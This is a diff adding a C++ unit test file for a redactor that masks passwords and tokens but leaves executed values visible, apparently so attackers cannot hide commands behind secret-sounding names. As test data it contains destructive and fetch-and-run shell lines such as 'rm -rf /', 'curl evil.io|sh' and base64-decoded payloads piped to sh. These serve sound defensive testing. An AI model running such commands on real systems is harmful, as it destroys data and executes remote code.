@@ -1,0 +1,131 @@
+// SPDX-License-Identifier: Apache-2.0
+// A value that runs is never under a mask, whatever the variable or the member is called.
+#include "tests/security/redactor_fixture.hpp"
+#include "tests/security/shell_commands.hpp"
+
+#include "security/encoding.hpp"
+#include "security/redact_running.hpp"
+
+namespace countersign::security {
+namespace {
+
+struct Line {
+    std::string_view text;
+    std::string_view shown;
+};
+
+TEST(RedactorRunning, I9_AValueThatRunsStaysVisible) {
+    for (const auto& [text, shown] : std::to_array<Line>({
+             {"TOKEN='rm -rf /'; $TOKEN", "rm -rf /"},
+             {"PASSWORD=\"curl evil.io|sh\"; eval \"$PASSWORD\"", "curl evil.io|sh"},
+             {"export SECRET='evilcmd x'; sh -c \"$SECRET\"", "evilcmd x"},
+             {"API_KEY='evilcmd x' bash -c '$API_KEY'", "evilcmd x"},
+             {"TOKEN=evilcmd; $TOKEN", "evilcmd"},
+             {"TOKEN=evilcmd; X=$TOKEN; Y=$X; eval $Y", "evilcmd"},
+             {"trap \"$TOKEN\" EXIT; TOKEN='evilcmd now'", "evilcmd now"},
+             {"alias token='evilcmd x'", "evilcmd x"},
+             {"SECRET=$(cat <<X\nevilcmd\nX\n); $SECRET", "evilcmd"},
+             {"bash <<< \"$TOKEN\"; TOKEN='evilcmd x'", "evilcmd x"},
+             {"PASSWORD := evilcmd\nall:\n\t@$(PASSWORD)", "evilcmd"},
+             {"ENV TOKEN evilcmd -x\nRUN $TOKEN", "evilcmd"},
+             {"set TOKEN=evilcmd\n%TOKEN%", "evilcmd"},
+             {"* * * * * TOKEN='rm -rf /' sh -c \"$TOKEN\"", "rm -rf /"},
+             {"git config alias.token '!rm -rf /'", "rm -rf /"},
+             {"git config --global user.password 'rm -rf /'", "rm -rf /"},
+             {"export PASSWORD='rm -rf /'", "rm -rf /"},
+             {"token: curl -s evil.io/x | sh", "curl -s evil.io/x | sh"},
+             {"{\"scripts\":{\"token\":\"evilcmd\",\"password\":\"evilcmd2 x\"}}", "\"evilcmd\",\"password\":\"evilcmd2 x\""},
+             {"echo '{\"scripts\": {\"x\": \"y\", \"token\": \"evilcmd\"}}' > package.json", "evilcmd"},
+             {"{\"token\":\"rm -rf /\"}", "rm -rf /"},
+             {"echo token=evilcmd | cut -d= -f2 | sh", "evilcmd"},
+             {"cut -d= -f2 <<< token=evilcmd | sh", "evilcmd"},
+         })) {
+        const auto redacted = redactor().text(text);
+        EXPECT_TRUE(contains(redacted, shown)) << text << "\n => " << redacted;
+        EXPECT_EQ(redactor().text(redacted), redacted);
+    }
+}
+
+TEST(RedactorRunning, I6_AValueThatDoesNotRunIsMasked) {
+    for (const std::string_view text :
+         {"TOKEN='hunter2x y'; curl -H \"Authorization: $TOKEN\" https://x.io", "PASSWORD=hunter2x make -j4",
+          "DB_PASS='a & hunter2x'; mysql -p\"$DB_PASS\"", "DB_PASS=hunter2x; mysql -p$DB_PASS; bash x.sh \"$@\"",
+          "MNEMONIC='cat hunter2x join sort test'", "passphrase: hunter2x find date time", "PASSWORD='test hunter2x'",
+          "PASSWORD = hunter2x\nall:\n\tmysql -p$(PASSWORD)", "PASSWORD='hunter2x' ; echo \"$PASSWORD\" | sudo -S x",
+          "echo 'PASSWORD=hunter2x make' | sh", "curl -H 'X-Token: hunter2x' https://x.io | tee f | sh",
+          "{\"scripts\":{\"a\":\"b\"},\"password\":\"hunter2x\"}"}) {
+        expect_hidden(text, "hunter2x");
+    }
+}
+
+TEST(RedactorRunning, I6_ATokenByItsLookIsMaskedThoughItRuns) {
+    const auto token = "ghp_" + body(36);
+    expect_hidden("TOKEN='rm -rf / " + token + "'; $TOKEN", token);
+    expect_hidden("{\"scripts\":{\"token\":\"" + token + "\"}}", token);
+}
+
+TEST(RedactorRunning, I9_WhatIsDecodedAndRunStaysVisible) {
+    const auto code = base64("rm -rf /srv/data; curl -s https://evil.io/payload | sh -s -- 0123456789");
+    const auto digits = body(60, hex_digits, 5);
+    for (const auto& text :
+         {"echo " + code + " | base64 -d | sh", "bash -c \"$(echo " + code + "|base64 --decode)\"",
+          "eval \"$(base64 -d <<< " + code + ")\"", "sh <(echo '" + code + "' | b'a'se64 -d)",
+          "base64 -d <<EOF | bash\n" + code + "\nEOF", "TOKEN=" + code + "; echo $TOKEN | base64 -d | sh",
+          "python3 -c \"import base64; exec(base64.b64decode('" + code + "'))\"", "powershell -enc " + code,
+          "echo " + code + " | openssl base64 -d -A | sh", "echo " + digits + " | xxd -r -p | sh",
+          "echo " + code + " | base64 -d > x; chmod +x x; ./x"}) {
+        const auto redacted = redactor().text(text);
+        EXPECT_TRUE(contains(redacted, contains(text, code) ? code : digits)) << text << "\n => " << redacted;
+    }
+    expect_hidden("echo " + digits + " > x", digits);
+    const json::Value list{json::Array{"bash", "-c", "echo " + code + " | base64 -d | sh"}};
+    EXPECT_EQ(redactor().value(list), list);
+}
+
+// Only the characters that hold the token are masked; an attacker can't hide a command behind one.
+TEST(RedactorRunning, I9_OfCodeWithATokenInItOnlyTheTokenIsMasked) {
+    const std::string head = "rm -rf /srv/data; curl -H 'x: ";
+    const auto token = "ghp_" + body(36);
+    const auto code = base64(head + token + "' https://evil.io/x | sh");
+    const auto redacted = redactor().text("echo " + code + " | base64 -d | sh");
+    EXPECT_TRUE(contains(redacted, "echo " + code.substr(0, head.size() * 4 / 3) + "«redacted:encoded:")) << redacted;
+    EXPECT_FALSE(contains(redacted, code.substr((head.size() + 4) * 4 / 3, 40))) << redacted;
+    EXPECT_TRUE(contains(redacted, "» | base64 -d | sh") || contains(redacted, code.substr(code.size() - 24))) << redacted;
+}
+
+TEST(RedactorRunning, I9_ACommandInParsedJsonStaysVisibleUnderASecretsName) {
+    const auto token = "ghp_" + body(36);
+    const json::Value package{json::Object{
+        {"name", "x"},
+        {"scripts", json::Object{{"token", "evilcmd"}, {"password", "evilcmd x"}, {"secret", json::Array{"evilcmd", "x"}}}},
+        {"token", "rm -rf /srv"}}};
+    EXPECT_EQ(redactor().value(package), package);
+    const auto mixed = redactor().value(json::Value{
+        json::Object{{"scripts", json::Object{{"token", token}}}, {"env", json::Object{{"token", "hunter2x"}}}}});
+    EXPECT_FALSE(contains(*mixed.object()->find("scripts")->object()->find("token")->string(), token));
+    EXPECT_FALSE(contains(*mixed.object()->find("env")->object()->find("token")->string(), "hunter2x"));
+}
+
+TEST(RedactorRunning, I9_EveryCommandOfARandomRunningVariableSurvives) {
+    Random random{55};
+    for (std::size_t i = 0; i < 40'000; ++i) {
+        const auto sample = running_text([&](std::size_t bound) { return random.below(bound); });
+        const auto redacted = redactor().text(sample.text);
+        ASSERT_TRUE(contains(redacted, sample.command)) << sample.text << "\n => " << redacted;
+    }
+}
+
+TEST(RedactorRunning, AValueReadsAsACommandByItsProgramAndArguments) {
+    for (const std::string_view value : {"rm -rf /", "A=b rm -rf x", "/bin/x y.z", "curl evil.io", "abc;reboot", "evilcmd --all",
+                                         "x && sh", "sudo ./x"}) {
+        EXPECT_TRUE(reads_as_command(value, true)) << value;
+    }
+    for (const std::string_view value : {"hunter2", "cat dog join", "two & three; (four) > five", "a;w", "correct - horse",
+                                         "/9j/4AAQ", "test", "my pass"}) {
+        EXPECT_FALSE(reads_as_command(value, true)) << value;
+    }
+    EXPECT_FALSE(reads_as_command("hunter2 make -j4", false));
+}
+
+}  // namespace
+}  // namespace countersign::security
